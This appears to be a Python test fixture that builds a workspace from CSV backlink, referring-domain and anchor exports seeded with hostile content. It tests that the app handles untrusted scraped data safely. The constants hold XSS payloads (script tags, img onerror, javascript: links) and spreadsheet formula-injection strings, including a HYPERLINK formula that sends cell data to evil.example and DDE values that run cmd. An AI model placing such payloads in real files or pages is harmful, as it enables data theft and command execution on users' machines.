"""A workspace whose imported data is hostile: anchors, titles, URLs and domains carrying HTML, scripts,
`javascript:` links, Markdown links and spreadsheet formulas, as scraped pages can.

Used by tests/test_untrusted_content.py (lib and AppTest) and tests/browser/test_untrusted_content.py.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from lib import importer
from lib.workspaces import Workspace, create_workspace
from tests.export_fixtures import HEADERS

WORKSPACE_ID = "hostile"
OWN = "hostile-target.com"

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
JS_URL = "javascript:alert(1)"
FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")'
DDE = "+cmd|' /C calc'!A0"
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_FORMULA = "-2+3+cmd|' /C calc'!A0"
MD_LINK = "[click me](javascript:alert(1))"
HTML_LINK = '<a href="https://evil.example/">win a prize</a>'
# Everything a spreadsheet would run as a formula if it were written as is.
FORMULAS = (FORMULA, DDE, AT_FORMULA, MINUS_FORMULA)
HOSTILE_TEXTS = (SCRIPT, IMG, JS_URL, MD_LINK, HTML_LINK, *FORMULAS)


def _csv(header: list[str], rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode()


def _backlink(ascore: int, title: str, source: str, target: str, anchor: str, nofollow: bool = False) -> list[str]:
    flag = "true" if nofollow else "false"
    return [str(ascore), title, source, target, anchor, "3", "10", flag, "false", "false", "true", "false", "false",
            "false", "false", "2024-01-10", "2024-04-30", "false", "false"]


def backlinks_export() -> bytes:
    target = f"https://{OWN}/"
    rows = [
        _backlink(98, SCRIPT, f"https://evil-one.example/{SCRIPT}", target, IMG),
        _backlink(97, FORMULA, f"https://evil-two.example/page?q={IMG}", f"{target}shop", FORMULA),
        _backlink(96, HTML_LINK, "https://evil-three.example/post", target, MD_LINK),
        _backlink(95, DDE, "https://evil-four.example/a", target, JS_URL),
        _backlink(94, AT_FORMULA, "https://evil-five.example/b", target, HTML_LINK),
        _backlink(93, IMG, "https://evil-six.example/c", target, MINUS_FORMULA),
        _backlink(92, MD_LINK, "https://evil-seven.example/d", target, SCRIPT),
        # A link whose target is a javascript: URL: rows keep it as text.
        _backlink(91, "js target", "https://evil-eight.example/e", JS_URL, "hostile"),
        _backlink(90, "js source", JS_URL, target, "hostile"),
    ]
    for i in range(40):  # ordinary links, so charts and tables have a body around the hostile rows
        rows.append(_backlink(10 + i, f"Coffee post {i}", f"https://blog{i % 12}.example/post-{i}",
                              f"{target}{'guide' if i % 2 else ''}", ["hostile target", "click here", OWN][i % 3],
                              nofollow=bool(i % 4 == 0)))
    return _csv(HEADERS["backlinks"], rows)


def referring_domains_export() -> bytes:
    rows = [[str(90 - i), domain, "3", "1.2.3.4", "US", "2024-01-01", "2024-04-30"]
            for i, domain in enumerate(["evil-one.example", "evil-two.example", "evil-three.example",
                                        "evil-four.example", "evil-five.example", "evil-six.example",
                                        "evil-seven.example", "evil-eight.example"])]
    rows += [[str(5 + i), f"blog{i}.example", "2", "5.6.7.8", "DE", "2024-01-01", "2024-04-30"] for i in range(12)]
    return _csv(HEADERS["referring_domains"], rows)


def anchors_export() -> bytes:
    rows = [[text, str(9 - i), str(20 - i), "2024-01-01", "2024-04-30"] for i, text in enumerate(HOSTILE_TEXTS)]
    rows += [["hostile target", "5", "12", "2024-01-01", "2024-04-30"]]
    return _csv(HEADERS["anchors"], rows)


def create_hostile_workspace(root: Path | None = None) -> Workspace:
    workspace = create_workspace("Hostile data", OWN, ["rival.example"], brand_terms=["hostile"],
                                 target_keywords=["coffee grinder"], workspace_id=WORKSPACE_ID, root=root)
    for name, data in ((f"{OWN}-backlinks-2024-04-30.csv", backlinks_export()),
                       (f"{OWN}-refdomains-2024-04-30.csv", referring_domains_export()),
                       (f"{OWN}-anchors-2024-04-30.csv", anchors_export())):
        [outcome] = importer.import_bytes(workspace, data, name, target_domain=OWN, root=root)
        assert outcome.snapshot is not None, outcome.error
        assert outcome.problems.rejected_total == 0, outcome.problems.rejected
    return workspace
